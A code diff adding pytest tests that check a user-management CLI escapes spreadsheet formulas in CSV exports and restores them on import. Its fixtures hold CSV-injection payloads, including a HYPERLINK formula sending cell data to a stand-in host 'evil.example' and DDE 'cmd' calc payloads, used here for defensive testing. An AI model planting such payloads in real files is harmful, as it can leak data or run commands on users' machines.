@@ -375,6 +375,100 @@ def test_users_export_shows_progress_on_stderr_and_keeps_stdout_clean(cli_env: P
     assert json.loads((cli_env / "out.json").read_text()) == rows
 
 
+# Self-chosen texts a spreadsheet would run as formulas, and one already quoted like an export.
+FORMULA_ACCOUNTS = [
+    {
+        "email": "link@example.com",
+        "full_name": '=HYPERLINK("http://evil.example/?h="&J2,"Click")',
+        "password_hash": "$argon2id$v=19$m=19456,t=2,p=1$c29tZXNhbHQ$RdescudvJCsgt3ub+b+dWRWJTmaaJObG",
+    },
+    {"email": "plus@example.com", "full_name": "+cmd|' /C calc'!A0", "phone": "+14155550100"},
+    {"email": "minus@example.com", "full_name": "-2+3"},
+    {"email": "at@example.com", "full_name": "@SUM(1+1)*cmd|' /C calc'!A0"},
+    {"email": "-dash@example.com", "full_name": "'=already quoted"},
+    {"email": "plain@example.com", "full_name": "O'Brien", "username": "obrien"},
+]
+
+
+def _by_email(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
+    return {row["email"].lstrip("'"): row for row in rows}
+
+
+def test_users_export_csv_neutralises_formulas_and_import_restores_them(
+    cli_env: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A CSV cell starting with =, +, -, @, tab or CR gets a leading `'` (OWASP), so a spreadsheet
+    shows it as text instead of running it beside the password hashes; JSON keeps the values, and
+    importing the CSV gives back exactly what was exported."""
+    import csv
+    import io
+
+    runner.invoke(app, ["migrate", "upgrade"])
+    source = cli_env / "accounts.json"
+    source.write_text(json.dumps(FORMULA_ACCOUNTS))
+    assert runner.invoke(app, ["users", "import", str(source)]).exit_code == 0
+
+    as_json = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
+    for account in FORMULA_ACCOUNTS:  # JSON: unchanged
+        assert {k: as_json[account["email"]][k] for k in account} == account
+
+    exported = runner.invoke(app, ["users", "export", "--format", "csv", "-o", str(cli_env / "out.csv")])
+    assert exported.exit_code == 0, exported.output
+    cells = _by_email(list(csv.DictReader(io.StringIO((cli_env / "out.csv").read_text()))))
+    assert cells["link@example.com"]["full_name"] == "'" + FORMULA_ACCOUNTS[0]["full_name"]
+    assert cells["plus@example.com"]["full_name"] == "'+cmd|' /C calc'!A0"
+    assert cells["plus@example.com"]["phone"] == "'+14155550100"
+    assert cells["minus@example.com"]["full_name"] == "'-2+3"
+    assert cells["at@example.com"]["full_name"].startswith("'@SUM(")
+    assert cells["-dash@example.com"]["email"] == "'-dash@example.com"
+    assert cells["-dash@example.com"]["full_name"] == "''=already quoted"  # one more quote, undone on import
+    assert cells["plain@example.com"]["full_name"] == "O'Brien"  # nothing a spreadsheet would run: as it is
+    for row in cells.values():
+        assert not row["full_name"].startswith(("=", "+", "-", "@", "\t", "\r"))
+
+    # Into an empty database: the CSV gives back the accounts as they were.
+    monkeypatch.setenv("AUTHGATE_DATABASE_URL", f"sqlite+aiosqlite:///{cli_env}/restored.db")
+    get_settings.cache_clear()
+    runner.invoke(app, ["migrate", "upgrade"])
+    imported = runner.invoke(app, ["users", "import", str(cli_env / "out.csv")])
+    assert imported.exit_code == 0 and "Created 6 accounts; skipped 0." in imported.output
+    restored = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
+    for account in FORMULA_ACCOUNTS:
+        assert {k: restored[account["email"]][k] for k in account} == account
+
+
+@pytest.mark.parametrize(
+    "text", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "''\t", "'", "''", "'a", "a=1", "", "1-2"]
+)
+def test_a_neutralised_cell_runs_as_no_formula_and_restores_exactly(text: str) -> None:
+    from authgate.users.transfer import FORMULA_STARTS, neutralise_cell, restore_cell
+
+    cell = neutralise_cell(text)
+    assert not cell.startswith(FORMULA_STARTS)
+    assert restore_cell(cell) == text
+    assert neutralise_cell(None) is None and neutralise_cell(True) is True  # not text: as it is
+
+
+def test_users_import_of_a_csv_takes_off_only_the_quote_before_a_formula(cli_env: Path) -> None:
+    """A cell of `'` before =, +, -, @, tab or CR loses that one quote; any other `'` stays."""
+    runner.invoke(app, ["migrate", "upgrade"])
+    source = cli_env / "users.csv"
+    source.write_text(
+        "email,full_name,phone\n"
+        "a@example.com,'=1+1,'+14155550100\n"
+        "b@example.com,'plain,\n"
+        "c@example.com,''@twice,\n"
+        "d@example.com,it's,\n"
+    )
+    result = runner.invoke(app, ["users", "import", str(source)])
+    assert result.exit_code == 0, result.output
+    rows = _by_email(json.loads(runner.invoke(app, ["users", "export"]).stdout))
+    assert rows["a@example.com"]["full_name"] == "=1+1" and rows["a@example.com"]["phone"] == "+14155550100"
+    assert rows["b@example.com"]["full_name"] == "'plain"
+    assert rows["c@example.com"]["full_name"] == "'@twice"
+    assert rows["d@example.com"]["full_name"] == "it's"
+
+
 def test_a_failed_export_leaves_the_output_file_as_it_was(
     cli_env: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
